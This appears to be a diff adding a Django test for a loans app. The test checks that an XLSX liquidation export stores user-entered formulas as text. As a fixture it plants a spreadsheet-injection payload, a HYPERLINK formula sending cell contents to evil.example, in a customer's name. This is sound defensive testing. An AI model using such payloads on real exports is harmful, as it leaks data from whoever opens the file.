@@ -241,6 +241,24 @@ def test_the_xlsx_download_has_the_lines_and_the_statements_totals(client, super
     assert sheet.column_dimensions["C"].width > 20
 
 
+def test_the_xlsx_writes_typed_formulas_as_text(client, supervisor, book):
+    customer = book["loan"].customer
+    customer.first_name = '=HYPERLINK("https://evil.example/?x="&B3,"Ver detalle")'
+    customer.save(update_fields=["first_name"])
+    lucia = book["lucia"]
+    lucia.bank_name = "=1+1"
+    lucia.save(update_fields=["bank_name"])
+    liquidation = _liquidate(lucia, date(2026, 2, 1), date(2026, 3, 31))
+    client.force_login(supervisor)
+
+    response = client.get(reverse("credits:liquidation_xlsx", args=[liquidation.pk]))
+
+    sheet = load_workbook(BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert "=1+1" in [c.value for c in cells]
+
+
 def test_marking_paid_requires_a_reference(client, supervisor, book):
     liquidation = _liquidate(book["lucia"], date(2026, 2, 1), date(2026, 2, 28))
     client.force_login(supervisor)
